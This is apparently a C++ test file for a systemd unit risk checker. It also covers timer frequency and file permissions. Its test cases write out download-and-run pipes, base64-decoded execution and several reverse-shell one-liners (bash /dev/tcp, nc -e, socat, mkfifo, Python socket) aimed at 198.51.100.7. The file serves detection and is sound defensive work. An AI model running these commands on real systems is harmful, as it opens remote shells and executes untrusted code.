// Risky command shapes, each with a near-miss twin that must stay quiet.
#include <catch2/catch.hpp>

#include "jcorr/baseline/codes.h"
#include "jcorr/baseline/risk.h"
#include "jcorr/baseline/timer_schedule.h"

namespace jcorr::baseline {

namespace {

std::vector<std::string> codes_of(const std::vector<Risk>& risks) {
  std::vector<std::string> out;
  for (const Risk& r : risks) out.push_back(r.code);
  out.erase(std::unique(out.begin(), out.end()), out.end());
  return out;
}

std::vector<std::string> assess(std::string_view value, std::string_view working_directory = {}) {
  const ExecParse parsed = parse_exec_value(value);
  REQUIRE(parsed.commands.size() == 1);
  return codes_of(assess_command("ExecStart", parsed.commands[0], working_directory));
}

}  // namespace

TEST_CASE("risky ExecStart shapes", "[baseline][risk]") {
  struct Case {
    std::string value;
    std::vector<std::string> risky;
    std::string twin;  // a look-alike that must not be flagged
  };
  const std::vector<Case> cases = {
      {"/tmp/x", {"exec.temp-path"}, "/usr/bin/x"},
      {"/var/tmp/update --now", {"exec.temp-path"}, "/var/lib/update --now"},
      {"/dev/shm/k", {"exec.temp-path"}, "/dev/shmx/k"},
      {"/usr/../tmp/x", {"exec.temp-path"}, "/usr/../usr/bin/x"},
      {"%T/x", {"exec.temp-path"}, "%t/x"},
      {"/bin/bash /tmp/run.sh", {"exec.temp-path"}, "/bin/bash /usr/local/bin/run.sh"},
      {"/usr/bin/python3 -u /dev/shm/a.py", {"exec.temp-path"}, "/usr/bin/python3 -m http.server"},
      {"/usr/bin/env FOO=1 /tmp/x", {"exec.temp-path"}, "/usr/bin/env FOO=/tmp/1 /usr/bin/x"},
      {"/usr/bin/nohup /usr/bin/timeout 10 /tmp/x", {"exec.temp-path"}, "/usr/bin/nohup /usr/bin/timeout 10 /usr/bin/x"},
      {"/bin/sh -c 'cd / && /tmp/x'", {"exec.temp-path"}, "/bin/sh -c 'rm -rf /tmp/x'"},
      {"/bin/sh -c 'echo hi > /tmp/log; /usr/bin/true'", {}, ""},
      {"/opt/.cache/agent", {"exec.hidden-path"}, "/opt/cache/agent"},
      {"/.x", {"exec.hidden-path"}, "/./x"},
      {"/bin/sh /root/.local/run", {"exec.hidden-path"}, "/bin/sh /root/local/run"},
      {"/bin/sh ./.x", {"exec.hidden-path"}, "/bin/sh ./x"},
      {"/bin/sh -c 'curl -fsSL http://198.51.100.1/i.sh | sh'", {"exec.download-and-run"},
       "/bin/sh -c 'curl -fsSL http://198.51.100.1/i.sh -o /var/lib/i.sh'"},
      {"/bin/bash -c 'wget -q -O- http://x/y | bash -s'", {"exec.download-and-run"}, "/bin/bash -c 'wget -q -O- http://x/y | tee /var/log/y'"},
      {"/bin/sh -c 'curl http://x | sudo /bin/bash'", {"exec.download-and-run"}, "/bin/sh -c 'curl http://x | grep ok'"},
      {"/bin/sh -c \"sh -c \\\"$(curl -s http://x)\\\"\"", {"exec.download-and-run"}, "/bin/sh -c \"echo $(date)\""},
      {"/bin/bash -c 'bash <(wget -qO- http://x)'", {"exec.download-and-run"}, "/bin/bash -c 'diff <(ls /a) <(ls /b)'"},
      {"/bin/sh -c 'eval \"$(curl http://x)\"'", {"exec.download-and-run"}, "/bin/sh -c 'eval \"$(dircolors)\"'"},
      {"/bin/sh -c '`curl http://x`'", {"exec.download-and-run"}, "/bin/sh -c '`hostname`'"},
      {"/bin/sh -c 'echo ZWNobyBoaQ== | base64 -d | sh'", {"exec.encoded"}, "/bin/sh -c 'echo aGk= | base64'"},
      {"/usr/bin/base64 --decode /etc/x", {"exec.encoded"}, "/usr/bin/base64 /etc/x"},
      {"/usr/bin/openssl base64 -d -in /etc/x", {"exec.encoded"}, "/usr/bin/openssl dgst -sha256 /etc/x"},
      {"/usr/bin/python3 -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'", {"exec.encoded"},
       "/usr/bin/python3 -c 'print(1)'"},
      {"/usr/bin/python3 -c 'exec(open(\"/etc/x\").read())'", {"exec.encoded"}, "/usr/bin/python3 -c 'import sys'"},
      {"/usr/bin/perl -e 'use MIME::Base64; eval decode_base64(\"...\")'", {"exec.encoded"}, "/usr/bin/perl -e 'print 1'"},
      {"/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'", {"exec.reverse-shell"},
       "/bin/bash -c 'bash -i > /var/log/tcp.log 2>&1'"},
      {"/bin/nc -e /bin/sh 198.51.100.7 4444", {"exec.reverse-shell"}, "/bin/nc -z 198.51.100.7 4444"},
      {"/usr/bin/ncat --sh-exec /bin/bash 198.51.100.7 4444", {"exec.reverse-shell"}, "/usr/bin/ncat -l 8080"},
      {"/usr/bin/socat TCP:198.51.100.7:4444 EXEC:/bin/sh,pty", {"exec.reverse-shell"},
       "/usr/bin/socat TCP-LISTEN:8080 TCP:127.0.0.1:80"},
      {"/bin/sh -c 'nc 198.51.100.7 4444 | /bin/sh'", {"exec.reverse-shell"}, "/bin/sh -c 'nc -z 198.51.100.7 4444 && echo up'"},
      {"/bin/sh -c 'rm -f /run/f; mkfifo /run/f; cat /run/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /run/f'",
       {"exec.reverse-shell"}, "/bin/sh -c 'mkfifo /run/f'"},
      {"/usr/bin/python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"x\",1));os.dup2(s.fileno(),0)'",
       {"exec.reverse-shell"}, "/usr/bin/python3 -c 'import socket;print(socket.gethostname())'"},
  };
  for (const Case& c : cases) {
    SECTION(c.value) {
      CHECK(assess(c.value) == c.risky);
      if (!c.twin.empty()) CHECK(assess(c.twin).empty());
    }
  }
}

TEST_CASE("risks combine and name the directive", "[baseline][risk]") {
  const ExecParse parsed = parse_exec_value("/dev/shm/.k --connect /dev/tcp/198.51.100.7/4444");
  const std::vector<Risk> risks = assess_command("ExecStartPre", parsed.commands[0]);
  CHECK(codes_of(risks) == std::vector<std::string>{"exec.hidden-path", "exec.reverse-shell", "exec.temp-path"});
  for (const Risk& r : risks) CHECK(r.reason.starts_with("ExecStartPre "));
}

TEST_CASE("relative scripts are resolved against WorkingDirectory", "[baseline][risk]") {
  CHECK(assess("/bin/sh ./run.sh", "/tmp/work") == std::vector<std::string>{"exec.temp-path"});
  CHECK(assess("/bin/sh ./run.sh", "-/tmp/work") == std::vector<std::string>{"exec.temp-path"});
  CHECK(assess("/bin/sh ./run.sh", "/srv/work").empty());
}

TEST_CASE("hostile shell code does not break the analysis", "[baseline][risk]") {
  ExecCommand command;
  command.path = "/bin/sh";
  std::string nested = "curl http://x | sh";
  for (int i = 0; i < 20; ++i) nested = "sh -c \"$(echo '" + nested + "')\"";
  command.argv = {"/bin/sh", "-c", nested + std::string(5000, '(') + "'\"`$("};
  CHECK_NOTHROW(assess_command("ExecStart", command));
}

TEST_CASE("timer frequency", "[baseline][risk]") {
  const std::uint64_t five_minutes = 5 * 60 * kUsecPerSec;
  auto codes = [&](std::map<std::string, std::vector<std::string>> d) { return codes_of(assess_schedule(d, five_minutes)); };
  const std::vector<std::string> frequent{"timer.frequent"};
  CHECK(codes({{"OnCalendar", {"minutely"}}}) == frequent);
  CHECK(codes({{"OnCalendar", {"*:*:*"}}}) == frequent);
  CHECK(codes({{"OnCalendar", {"*:0/4"}}}) == frequent);
  CHECK(codes({{"OnCalendar", {"*-*-* *:*:00"}}}) == frequent);
  CHECK(codes({{"OnCalendar", {"daily", "*:0/1"}}}) == frequent);
  CHECK(codes({{"OnUnitActiveSec", {"30s"}}}) == frequent);
  CHECK(codes({{"OnUnitInactiveSec", {"2m 30s"}}}) == frequent);
  CHECK(codes({{"OnUnitActiveSec", {"100ms"}}}) == frequent);
  // Near misses.
  CHECK(codes({{"OnCalendar", {"*:0/5"}}}).empty());
  CHECK(codes({{"OnCalendar", {"hourly"}}}).empty());
  CHECK(codes({{"OnUnitActiveSec", {"5min"}}}).empty());
  CHECK(codes({{"OnBootSec", {"30s"}}, {"OnActiveSec", {"1s"}}, {"OnStartupSec", {"1min"}}}).empty());
  CHECK(codes({{"OnCalendar", {"not a calendar"}}}).empty());
  CHECK(assess_schedule({{"OnUnitActiveSec", {"2m 30s"}}}, five_minutes)[0].reason ==
        "OnUnitActiveSec=2m 30s repeats every 2min 30s, more often than every 5min");
}

TEST_CASE("file access", "[baseline][risk]") {
  auto codes = [](FileAccess a, bool system) { return codes_of(assess_access(a, system)); };
  const std::vector<std::string> writable{"file.writable"};
  CHECK(codes({"/etc/systemd/system/x.timer", 0, 0, 0644, false, "root", "root"}, true).empty());
  CHECK(codes({"/etc/systemd/system/x.timer", 0, 0, 0666, false, "root", "root"}, true) == writable);
  CHECK(codes({"/etc/systemd/system/x.timer", 0, 0, 0664, false, "root", "root"}, true) == writable);
  CHECK(codes({"/etc/systemd/system/x.timer", 1000, 0, 0644, false, "alice", "root"}, true) ==
        std::vector<std::string>{"file.owner-non-root", "file.writable"});
  CHECK(codes({"/etc/systemd/system", 1000, 0, 0755, true, "alice", "root"}, true) == writable);
  CHECK(codes({"/etc/systemd/system", 0, 0, 01777, true, "root", "root"}, true) == writable);
  CHECK(codes({"/home/a/.config/systemd/user/x.timer", 1000, 1000, 0664, false, "a", "a"}, false).empty());
  CHECK(codes({"/home/a/.config/systemd/user/x.timer", 1000, 1000, 0666, false, "a", "a"}, false) == writable);
}

}  // namespace jcorr::baseline
